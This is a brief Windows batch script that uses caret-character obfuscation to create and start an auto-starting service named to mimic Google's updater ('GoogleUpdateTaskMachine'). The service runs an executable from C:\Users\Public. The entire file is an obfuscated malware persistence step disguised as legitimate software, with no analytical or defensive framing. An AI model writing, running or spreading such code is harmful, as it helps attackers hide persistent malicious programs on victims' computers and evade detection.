REM init 8504 v1
@echo off
set atxj=sc cr^e^ate ^G^o^o^gl^eUpdate^Ta^sk^M^ac^h^ine b^in^Path= "cmd.exe /c C:\Users\Public\svc.exe" ^st^ar^t= a^uto
call %atxj%
@echo off
set htev=^s^c ^st^a^r^t ^G^o^o^g^leUp^da^te^Tas^k^Ma^c^hine
call %htev%
